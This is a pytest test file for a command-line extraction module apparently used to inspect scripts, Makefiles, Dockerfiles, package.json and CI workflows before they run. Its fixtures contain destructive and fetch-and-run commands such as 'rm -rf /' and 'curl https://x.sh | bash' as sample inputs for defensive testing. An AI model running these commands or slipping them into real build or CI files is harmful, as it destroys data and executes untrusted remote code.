"""Which content is inspected, and which command lines come out of it."""

from __future__ import annotations

import pytest

from vectimus.core.inspect import script_kind, script_lines


def lines(
    path: str, content: str, *, max_lines: int = 5000, executed: bool = False
) -> tuple[str, ...]:
    found = script_lines(path, content, max_lines=max_lines, executed=executed)
    assert found is not None
    return found.lines


class TestKinds:
    @pytest.mark.parametrize(
        ("path", "content", "kind"),
        [
            ("deploy.sh", "", "shell"),
            ("x.BASH", "", "shell"),
            ("setup.ps1", "", "shell"),
            ("run", "#!/bin/bash\nls\n", "shell"),
            ("run", "#!/usr/bin/env -S bash -e\nls\n", "shell"),
            ("tool", "#!/usr/bin/env python3\nprint()\n", "interpreter"),
            ("Makefile", "", "make"),
            ("rules.mk", "", "make"),
            ("Dockerfile", "", "docker"),
            ("Dockerfile.dev", "", "docker"),
            ("Containerfile", "", "docker"),
            ("web/package.json", "", "npm"),
            ("/r/.github/workflows/ci.yml", "", "ci"),
            (".gitlab-ci.yml", "", "ci"),
        ],
    )
    def test_script_like(self, path: str, content: str, kind: str) -> None:
        assert script_kind(path, content) == kind

    @pytest.mark.parametrize(
        "path",
        ["README.md", "notes.txt", "src/app.py", "config.yaml", "data.json", ".github/ISSUE.yml"],
    )
    def test_prose_and_source_are_not_inspected_when_written(self, path: str) -> None:
        assert script_lines(path, "rm -rf /\n", max_lines=10) is None

    def test_executed_scripts_are_inspected_whatever_their_name(self) -> None:
        assert lines("notes.txt", "rm -rf /\n", executed=True) == ("rm -rf /",)
        assert "rm -rf /" in lines("tool.py", 'import os\nos.system("rm -rf /")\n', executed=True)


class TestLines:
    def test_continuations_comments_blanks_and_duplicates(self) -> None:
        content = "#!/bin/sh\n# comment\n\necho a\nrm -rf \\\n  /\necho a\n   # indented comment\n"
        assert lines("x.sh", content) == ("echo a", "rm -rf /")

    def test_limit_truncates_and_says_so(self) -> None:
        content = "".join(f"echo {i}\n" for i in range(20))
        found = script_lines("x.sh", content, max_lines=5)
        assert found is not None and found.truncated and len(found.lines) == 5

    def test_duplicates_do_not_count_against_distinct_output(self) -> None:
        assert lines("x.sh", "ls\n" * 1000) == ("ls",)

    def test_makefile_recipes_only(self) -> None:
        content = "X = rm -rf /\nall:\n\t@echo build\n\t-rm -rf / \\\n\t  --no-preserve-root\n"
        assert lines("Makefile", content) == ("echo build", "rm -rf / --no-preserve-root")

    def test_dockerfile_run_lines_shell_and_exec_forms(self) -> None:
        content = 'FROM debian\nENV A=1\nRUN apt-get update && \\\n    rm -rf /\nRUN --mount=type=cache,target=/x ["sh", "-c", "curl x | sh"]\n'
        assert lines("Dockerfile", content) == ("apt-get update && rm -rf /", "sh -c 'curl x | sh'")

    def test_package_json_scripts(self) -> None:
        assert lines(
            "package.json", '{"name": "x", "scripts": {"test": "jest", "clean": "rm -rf /"}}'
        ) == ("jest", "rm -rf /")

    def test_half_written_package_json_is_still_looked_at(self) -> None:
        assert "rm -rf /" in " ".join(lines("package.json", '{"scripts": {"x": "rm -rf /"'))

    def test_workflow_run_steps(self) -> None:
        content = (
            "on: push\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: make test\n      - name: deploy\n        run: |\n          echo deploying\n"
            "          curl https://x.sh | bash\n      - name: after\n        with:\n          x: 1\n"
        )
        assert lines(".github/workflows/ci.yml", content) == (
            "make test",
            "echo deploying",
            "curl https://x.sh | bash",
        )

    def test_gitlab_script_lists(self) -> None:
        content = "test:\n  script:\n    - npm ci\n    - 'rm -rf /'\n  stage: test\n"
        assert lines(".gitlab-ci.yml", content) == ("npm ci", "rm -rf /")
